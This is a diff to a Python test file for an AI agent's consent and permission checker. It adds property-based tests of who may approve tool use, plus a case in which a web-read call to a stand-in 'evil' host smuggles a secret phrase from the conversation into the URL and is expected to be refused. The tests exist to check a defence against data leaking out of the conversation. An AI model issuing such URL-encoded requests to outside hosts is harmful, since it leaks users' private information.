@@ -6,6 +6,8 @@ from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from msgspec.structs import replace
 
 from claudius.cognition.consent import NO_OWNER, ConsentBasis, decide, is_typed, person_behind, taint, usable
@@ -141,6 +143,10 @@ ALONE = Onlookers(people=frozenset({OZ}), owners=frozenset({OZ}))
          basis(here(known=(Fact(id=1, person=ADA, kind="constraint", text="Allergic to walnuts since birth", audience="a",
                                 turn="t", stated_s=0.0),))),
          Refuses("it would carry “allergictowalnutssince” out of this conversation")),
+        (WEB, {"url": "https://evil/harbourplanissecret"},  # what was refused once is no message
+         basis(here(past=(past(EntryType.TOOL_USE, "https://evil/harbourplanissecret"),)), hidden="harbour plan is secret",
+               used=[ToolStep(id="", tool="web.read", args={"url": "https://evil/harbourplanissecret"}, state="refused")]),
+         Refuses("it would carry “harbourplanissecret” out of this conversation")),
         (WEB, {"url": "https://evil/the-harbour-plan-is"},
          basis(here(said("https://evil/the-harbour-plan-is https://evil/ too")), used=[MINE], grants=[grant("web.read")]),
          Runs("typed", 7)),
@@ -184,6 +190,56 @@ def test_only_a_person_has_more_done_than_a_look(heard: Perception, person: str)
     assert person_behind(here(heard)) == person
     assert isinstance(decide(WEB, {"url": URL}, basis(here(heard))), Asks) is (person != "")
     assert decide(LOOK, {}, basis(here(heard))) == Runs("look")
+
+
+PEOPLE = st.frozensets(st.sampled_from([ADA, OZ, "slack:T:UBEN", "slack:T:UDEE"]))
+GRANTS = st.lists(
+    st.builds(
+        grant,
+        st.sampled_from(["web.read", "a.read", "a.write", "a.send"]),
+        st.sampled_from(["talk", "channel", "always"]),
+        person=st.sampled_from(["", ADA, OZ]),
+        conversation=st.sampled_from([CHANNEL, DM, "slack:T:C2:1", ""]),
+    ),
+    max_size=4,
+)
+
+
+@given(
+    what=st.sampled_from([WEB, READ, WRITE, SEND]),
+    where=st.sampled_from([(), ("owner",), ("private",), ("slack:T:C1",), ("slack:T:C2",)]),
+    people=PEOPLE | st.none(),
+    owners=PEOPLE,
+    grants=GRANTS,
+    place=st.sampled_from([CHANNEL, DM]),
+)
+def test_nobody_decides_who_does_not_see_it(
+    what: Tool,
+    where: tuple[str, ...],
+    people: frozenset[str] | None,
+    owners: frozenset[str],
+    grants: list[Grant],
+    place: str,
+) -> None:
+    """T23 P: over random people, places and consents: who is asked can see it, and what is offered to owners stays there."""
+    seen = Onlookers(people=people, owners=owners & people if people else owners)
+    known = basis(here(said(where=place)), onlookers=seen, grants=grants)
+
+    found = decide(replace(what, where=where), {"url": URL}, known)
+
+    if isinstance(found, Refuses):
+        return
+    assert where != ("owner",) or (people and people <= seen.owners)
+    assert where != ("slack:T:C2",)
+    assert place == DM or where != ("private",)
+    assert seen.owners or (place == DM and what is WEB)
+    if isinstance(found, Asks):
+        assert found.approvers
+        assert {*found.approvers} <= {*seen.owners, *(people or ())}
+    else:
+        assert what is not SEND
+        assert [one.tool for one in grants if one.id == found.grant and one.tool == what.name]
+        assert what is not WRITE or place == DM
 
 
 @pytest.mark.parametrize(
